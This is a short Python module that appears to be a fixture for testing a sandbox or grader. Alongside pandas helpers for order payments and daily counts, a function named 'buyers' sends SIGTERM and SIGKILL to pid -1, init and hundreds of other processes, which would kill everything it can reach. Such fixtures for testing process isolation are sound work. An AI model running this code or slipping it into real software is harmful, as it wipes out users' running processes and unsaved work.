"""Kills itself, its group and everybody else.

deserves: paid by_day
"""

import os
import signal


def buyers(orders):
    for pid in (-1, 0, 1, 2, os.getpid(), os.getppid(), *range(3, 400)):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                continue
    return -1


def paid(orders):
    return float(orders["paid_fen"].sum() / 100)


def by_day(orders):
    return orders.groupby("day", as_index=False).size().rename(columns={"size": "n"})
